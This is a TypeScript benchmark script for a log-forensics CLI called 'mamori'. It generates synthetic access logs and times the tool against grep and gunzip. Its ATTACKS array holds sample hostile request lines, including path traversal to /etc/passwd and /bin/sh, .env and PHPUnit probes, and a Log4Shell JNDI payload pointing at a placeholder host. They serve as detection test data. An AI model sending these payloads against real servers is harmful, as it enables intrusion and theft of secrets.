/**
 * Log forensics speed, every ratio from the same run (the machine's load moves them all alike).
 * Plain files of MAMORI_BENCH_MB (default 256; the issue's targets are for 1024) each scanned by
 * `bin/mamori logs --format json` (every rule) and by `LC_ALL=C grep -c -E` (output to a pipe):
 *   - own generator: a combined log with 0.05% attacks (deterministic seed);
 *   - ../shared/bench/genlog.mjs (seed 9) at 0.5% and at 20% attack lines: realistic benign traffic
 *     with scanners' noise and hard negatives (the 20% run is also compared with the 0.5% one);
 *   - ../shared/corpus/reallogs/*.log (real access logs) repeated to the size;
 * and the gzip copies of the own and the genlog 0.5% files against a bare Node zlib.createGunzip()
 * pass that only counts newlines. Wall time and CPU time (user + system, all threads) of each.
 * MAMORI_BENCH_ROUNDS=N measures N times and prints each ratio's best and range.
 * MAMORI_BENCH_KEEP=DIR keeps the generated files there (for profiling); otherwise a temp dir, removed after.
 * Every mamori run is held to the peak memory target (MEMORY_TARGET_MB, issues 12 and 13): a run over it is
 * flagged and the bench exits 1. MAMORI_BENCH_TIMES=N (default 1) also scans each genlog file written N
 * times over (10 with MAMORI_BENCH_MB=1024: 10 GB; the same lines again, so the bounded state is as full as
 * a long incident makes it), for time and peak memory.
 * The genlog 0.5% file is also scanned by a copy of this checkout without issue 15's attack-class rules
 * (ATTACK_CLASS_RULES), alternated with every rule: what those rules cost, in the same run.
 */
import { spawn, spawnSync } from "node:child_process";
import {
  closeSync,
  cpSync,
  createReadStream,
  createWriteStream,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pipeline } from "node:stream/promises";
import { createGunzip, createGzip } from "node:zlib";

const MB = Number(process.env.MAMORI_BENCH_MB ?? 256);
const TIMES = Math.max(1, Number(process.env.MAMORI_BENCH_TIMES ?? 1));
/** Peak memory `mamori logs` must stay under, whatever the size or share of attacks (issues 12, 13). */
const MEMORY_TARGET_MB = 200;
const overTarget = (m: Timed): string => {
  if (m.peakMb <= MEMORY_TARGET_MB) return "";
  process.exitCode = 1;
  return ` OVER the ${MEMORY_TARGET_MB} MB target`;
};
// MAMORI_BENCH_KEEP=DIR keeps the generated files there (for profiling); otherwise a temp dir, removed after.
const keep = process.env.MAMORI_BENCH_KEEP;
const dir = keep ?? mkdtempSync(join(tmpdir(), "mamori-bench-logs-"));
if (keep) mkdirSync(keep, { recursive: true });
const plain = join(dir, "access.log");
// What users run: bin/mamori (Node 24 with the compile cache on from the start).
const cli = new URL("../bin/mamori", import.meta.url).pathname;

let seed = 42;
const rnd = () => {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed;
};
const pick = <T>(a: T[]) => a[rnd() % a.length] as T;
const PATHS = [
  "/",
  "/index.html",
  "/blog/2024/03/some-post.html?utm_source=feed&utm_medium=rss",
  "/images/logo.png",
  "/css/site.css?v=3",
  "/js/app.min.js",
  "/api/v1/items/123?fields=name%2Cprice",
  "/search?q=hello+world%20again",
  "/favicon.ico",
  "/wp-content/uploads/2023/05/photo-1024x768.jpg",
  "/shop/cart?add=42&qty=1",
  "/robots.txt",
];
const REFS = [
  "-",
  "https://www.google.com/",
  "https://www.example.com/blog/",
  "https://t.co/abc123",
  "https://www.google.com/url?q=https%3A%2F%2Fexample.com%2Fblog&sa=D",
];
const UAS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
];
const ATTACKS = [
  'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 226',
  'GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" 403 199',
  'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 196',
  'GET /.env HTTP/1.1" 404 196',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template.
  'GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1" 404 196',
];

async function generate(): Promise<void> {
  const out = createWriteStream(plain);
  let size = 0;
  const target = MB * 2 ** 20;
  let t = Date.UTC(2024, 2, 1) / 1000;
  const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
  while (size < target) {
    const lines: string[] = [];
    for (let i = 0; i < 5000; i++) {
      t += rnd() % 3;
      const d = new Date(t * 1000);
      const ts = `${String(d.getUTCDate()).padStart(2, "0")}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${String(d.getUTCHours()).padStart(2, "0")}:${String(d.getUTCMinutes()).padStart(2, "0")}:${String(d.getUTCSeconds()).padStart(2, "0")} +0000`;
      const ip = `${(rnd() % 223) + 1}.${rnd() % 256}.${rnd() % 256}.${rnd() % 256}`;
      const req =
        rnd() % 2000 === 0
          ? pick(ATTACKS)
          : `GET ${pick(PATHS)} HTTP/1.1" ${rnd() % 10 === 0 ? 304 : 200} ${rnd() % 60000}`;
      lines.push(`${ip} - - [${ts}] "${req} "${pick(REFS)}" "${pick(UAS)}"\n`);
    }
    const s = lines.join("");
    size += s.length;
    if (!out.write(s)) await new Promise<void>((r) => out.once("drain", () => r()));
  }
  await new Promise<void>((r) => out.end(() => r()));
}

interface Timed {
  s: number;
  cpu: number;
  peakMb: number;
  out: string;
}

/** Wall and CPU time of a command (its output to a pipe, read here). */
function timed(cmd: string, args: string[]): Timed {
  const stats = join(dir, "time.txt");
  const t0 = process.hrtime.bigint();
  const r = spawnSync("/usr/bin/time", ["-o", stats, "-f", "%U %S %M", cmd, ...args], { maxBuffer: 1 << 28 });
  const s = Number(process.hrtime.bigint() - t0) / 1e9;
  // mamori exits 1 when it found attacks, grep when it counted none: only no answer is a failure.
  if (r.status === null || r.stdout.length === 0)
    throw new Error(`${cmd} ${args.join(" ")}: ${r.stderr.toString().slice(0, 500)}`);
  const [u, sys, kb] = readFileSync(stats, "utf8").trim().split("\n").pop()?.split(" ").map(Number) ?? [];
  return { s, cpu: (u ?? 0) + (sys ?? 0), peakMb: (kb ?? 0) / 1024, out: r.stdout.toString() };
}

const GREP = "(\\.|%2[eE])(\\.|%2[eE])/|%%32%65";
const grepOnce = (file: string) => timed("bash", ["-c", `LC_ALL=C grep -c -E '${GREP}' '${file}'`]);
const faster = (a: Timed, b: Timed) => (b.s < a.s ? b : a);
/**
 * grep and mamori on one file, grep's reference the best of five runs, two of them right after mamori's:
 * on this virtual machine whole bench runs gave grep 0.6-0.8 s of CPU for 256 MB that other runs (and
 * the same command alone) read in 0.17-0.25 s, while mamori's times stayed the same; a slow reference
 * flattered mamori threefold.
 */
const against = (file: string): { g: Timed; m: Timed } => {
  let g = [0, 1, 2].map(() => grepOnce(file)).reduce(faster);
  const m = mamori(file);
  g = [g, grepOnce(file), grepOnce(file)].reduce(faster);
  return { g, m };
};
/**
 * Reads a file once before it is timed: whichever of grep and mamori ran first on a file the page cache had
 * dropped paid the disk alone (grep 1.2 s cold against 0.19 s warm on 256 MB, which once made mamori look
 * as fast as grep).
 */
const warm = (file: string) => {
  const fd = openSync(file, "r");
  try {
    const buf = Buffer.allocUnsafe(1 << 20);
    while (readSync(fd, buf, 0, buf.length, null) > 0);
  } finally {
    closeSync(fd);
  }
};
const mamori = (file: string, bin = cli) => timed(bin, ["logs", "--format", "json", file]);

/** The rule files issue 15 added (attack classes, scanners, campaigns), by the commit that added them. */
const ATTACK_CLASS_RULES =
  /^(?:attack-.*|campaign-miners|legacy-probes|protocol-garbage|proxy-abuse|scanner-agent|webshell-sweep)\.yaml$/;
/**
 * A copy of the code without the attack-class rules, its caches warmed: mamori finds its rules beside its
 * code, so a copy is the only way to run it with fewer (no option or variable of the CLI names a rules
 * directory, as none should).
 */
function checkoutWithoutAttackClasses(): string {
  const repo = new URL("..", import.meta.url).pathname;
  const copy = join(dir, "checkout-without-attack-classes");
  rmSync(copy, { recursive: true, force: true });
  for (const part of ["bin", "src", "rules", "package.json"])
    cpSync(join(repo, part), join(copy, part), { recursive: true });
  symlinkSync(join(repo, "node_modules"), join(copy, "node_modules"));
  const rules = join(copy, "rules", "logs");
  const dropped = readdirSync(rules).filter((n) => ATTACK_CLASS_RULES.test(n));
  for (const n of dropped) rmSync(join(rules, n));
  const tiny = join(dir, "one-line.log");
  writeFileSync(tiny, '203.0.113.9 - - [01/Mar/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "x"\n');
  for (const bin of [cli, join(copy, "bin", "mamori")]) timed(bin, ["logs", "--format", "json", tiny]);
  process.stdout.write(`without issue 15's attack classes: ${dropped.length} rule files left out\n`);
  return join(copy, "bin", "mamori");
}

async function gunzipCount(file: string): Promise<Timed> {
  const t0 = process.hrtime.bigint();
  const c0 = process.cpuUsage();
  let n = 0;
  const g = createReadStream(file).pipe(createGunzip());
  for await (const c of g as AsyncIterable<Buffer>) {
    let p = c.indexOf(10);
    while (p >= 0) {
      n++;
      p = c.indexOf(10, p + 1);
    }
  }
  const c1 = process.cpuUsage(c0);
  return {
    s: Number(process.hrtime.bigint() - t0) / 1e9,
    cpu: (c1.user + c1.system) / 1e6,
    peakMb: 0,
    out: String(n),
  };
}

async function genlog(file: string, rate: number): Promise<void> {
  // About 254 bytes a line.
  const lines = Math.round((MB * 2 ** 20) / 254);
  const g = spawn(process.execPath, [
    GENLOG,
    "--lines",
    String(lines),
    "--seed",
    "9",
    "--attack-rate",
    String(rate),
  ]);
  await pipeline(g.stdout, createWriteStream(file));
}

/** The real access logs, concatenated and repeated to the size. */
async function reallogs(file: string): Promise<void> {
  const texts = readdirSync(REAL)
    .filter((f) => f.endsWith(".log"))
    .sort()
    .map((f) => readFileSync(join(REAL, f), "latin1").replace(/\n?$/, "\n"));
  const one = Buffer.from(texts.join(""), "latin1");
  const out = createWriteStream(file);
  for (let size = 0; size < MB * 2 ** 20; size += one.length)
    if (!out.write(one)) await new Promise<void>((r) => out.once("drain", () => r()));
  await new Promise<void>((r) => out.end(() => r()));
}

async function gzipOf(file: string): Promise<string> {
  const gz = `${file}.gz`;
  if (!existsSync(gz))
    await pipeline(createReadStream(file), createGzip({ level: 6 }), createWriteStream(gz));
  return gz;
}

const GENLOG = new URL("../../shared/bench/genlog.mjs", import.meta.url).pathname;
const REAL = new URL("../../shared/corpus/reallogs/", import.meta.url).pathname;
const ROUNDS = Number(process.env.MAMORI_BENCH_ROUNDS ?? 1);
const fmt = (x: number) => x.toFixed(2);

try {
  if (!keep || !existsSync(plain)) {
    process.stdout.write(`generating ${MB} MB files in ${dir} ...\n`);
    await generate();
  }
  const files: Array<{ name: string; file: string }> = [{ name: "own generator", file: plain }];
  if (existsSync(GENLOG))
    for (const rate of [0.005, 0.2]) {
      const file = join(dir, `genlog-${rate}.log`);
      if (!existsSync(file)) await genlog(file, rate);
      files.push({ name: `genlog ${(rate * 100).toFixed(1)}%`, file });
    }
  if (existsSync(REAL)) {
    const file = join(dir, "reallogs.log");
    if (!existsSync(file)) await reallogs(file);
    files.push({ name: "reallogs repeated", file });
  }
  const gzips = [{ name: "own generator", file: await gzipOf(plain) }];
  const g05 = files.find((f) => f.name === "genlog 0.5%");
  const fewerRules = g05 ? checkoutWithoutAttackClasses() : undefined;
  if (g05) gzips.push({ name: "genlog 0.5%", file: await gzipOf(g05.file) });
  /** Ratio name -> one value per round. */
  const ratios = new Map<string, number[]>();
  const note = (k: string, v: number) => ratios.set(k, [...(ratios.get(k) ?? []), v]);
  for (let round = 1; round <= ROUNDS; round++) {
    const load = readFileSync("/proc/loadavg", "utf8").split(" ").slice(0, 3).join(" ");
    const lines = [`round ${round}/${ROUNDS} (load ${load}), ${MB} MB each`];
    const byName = new Map<string, Timed>();
    for (const { name, file } of files) {
      warm(file);
      const { g, m } = against(file);
      byName.set(name, m);
      const d = JSON.parse(m.out).sections.logs;
      const f = d.files[0];
      note(`${name}: mamori/grep wall`, m.s / g.s);
      note(`${name}: mamori/grep cpu`, m.cpu / g.cpu);
      lines.push(
        `${name.padEnd(18)} grep ${fmt(g.s)} s (cpu ${fmt(g.cpu)})  mamori ${fmt(m.s)} s (cpu ${fmt(m.cpu)})  = ${fmt(m.s / g.s)}x grep, cpu ${fmt(m.cpu / g.cpu)}x   ${f.lines} lines, ${d.eventsTotal} events, peak ${m.peakMb.toFixed(0)} MB${overTarget(m)}`,
      );
    }
    const low = byName.get("genlog 0.5%");
    const high = byName.get("genlog 20.0%");
    if (low && high) {
      note("genlog 20% / 0.5% wall", high.s / low.s);
      lines.push(`genlog 20% vs 0.5%: ${fmt(high.s / low.s)}x wall, ${fmt(high.cpu / low.cpu)}x cpu`);
    }
    if (g05) {
      // Standard input (`docker logs web 2>&1 | mamori logs -`): both read the file through cat.
      const piped = (cmd: string) => timed("bash", ["-c", `cat '${g05.file}' | ${cmd}`]);
      const grepPiped = () => piped(`LC_ALL=C grep -c -E '${GREP}'`);
      let g = [grepPiped(), grepPiped()].reduce(faster);
      const m = piped(`'${cli}' logs --format json -`);
      g = faster(g, grepPiped());
      note("genlog 0.5% piped: mamori/grep wall", m.s / g.s);
      lines.push(
        `${"genlog 0.5% piped".padEnd(18)} grep ${fmt(g.s)} s (cpu ${fmt(g.cpu)})  mamori ${fmt(m.s)} s (cpu ${fmt(m.cpu)})  = ${fmt(m.s / g.s)}x grep, cpu ${fmt(m.cpu / g.cpu)}x   peak ${m.peakMb.toFixed(0)} MB${overTarget(m)}`,
      );
    }
    if (g05 && fewerRules) {
      // Alternated, best of two each: the load moves both alike.
      const without = [mamori(g05.file, fewerRules)];
      const every = [mamori(g05.file)];
      without.push(mamori(g05.file, fewerRules));
      every.push(mamori(g05.file));
      const w = without.reduce(faster);
      const e = every.reduce(faster);
      const events = (t: Timed) => JSON.parse(t.out).sections.logs.eventsTotal as number;
      note("genlog 0.5%: every rule / without attack classes, cpu", e.cpu / w.cpu);
      lines.push(
        `${"genlog 0.5% rules".padEnd(18)} without attack classes ${fmt(w.s)} s (cpu ${fmt(w.cpu)}, ${events(w)} events)  every rule ${fmt(e.s)} s (cpu ${fmt(e.cpu)}, ${events(e)} events)  = ${fmt(e.s / w.s)}x wall, cpu ${fmt(e.cpu / w.cpu)}x`,
      );
    }
    for (const { name, file } of gzips) {
      warm(file);
      // Node's gunzip, best of one run before mamori and one after (as grep above).
      let z = await gunzipCount(file);
      const m = mamori(file);
      z = faster(z, await gunzipCount(file));
      note(`${name} gzip: mamori/gunzip wall`, m.s / z.s);
      note(`${name} gzip: mamori/gunzip cpu`, m.cpu / z.cpu);
      lines.push(
        `${`${name} .gz`.padEnd(18)} gunzip ${fmt(z.s)} s (cpu ${fmt(z.cpu)})  mamori ${fmt(m.s)} s (cpu ${fmt(m.cpu)})  = ${fmt(m.s / z.s)}x gunzip, cpu ${fmt(m.cpu / z.cpu)}x   peak ${m.peakMb.toFixed(0)} MB${overTarget(m)}`,
      );
    }
    if (TIMES > 1)
      for (const { name, file } of files.filter((f) => f.name.startsWith("genlog"))) {
        const big = join(dir, `${name.replace(/\W+/g, "-")}-x${TIMES}.log`);
        spawnSync("bash", ["-c", `for i in $(seq ${TIMES}); do cat '${file}'; done > '${big}'`]);
        const { g, m } = against(big);
        if (!keep) rmSync(big, { force: true });
        const d = JSON.parse(m.out).sections.logs;
        note(`${name} x${TIMES}: mamori/grep wall`, m.s / g.s);
        lines.push(
          `${`${name} x${TIMES}`.padEnd(18)} ${MB * TIMES} MB  grep ${fmt(g.s)} s (cpu ${fmt(g.cpu)})  mamori ${fmt(m.s)} s (cpu ${fmt(m.cpu)})  = ${fmt(m.s / g.s)}x grep, cpu ${fmt(m.cpu / g.cpu)}x   ${d.eventsTotal} events, peak ${m.peakMb.toFixed(0)} MB${overTarget(m)}`,
        );
      }
    process.stdout.write(`${lines.join("\n")}\n`);
  }
  if (ROUNDS > 1) {
    process.stdout.write("best (range) over the rounds:\n");
    for (const [k, v] of ratios)
      process.stdout.write(
        `  ${k.padEnd(40)} ${fmt(Math.min(...v))}x (${fmt(Math.min(...v))}-${fmt(Math.max(...v))})\n`,
      );
  }
} finally {
  if (!keep) rmSync(dir, { recursive: true, force: true });
}
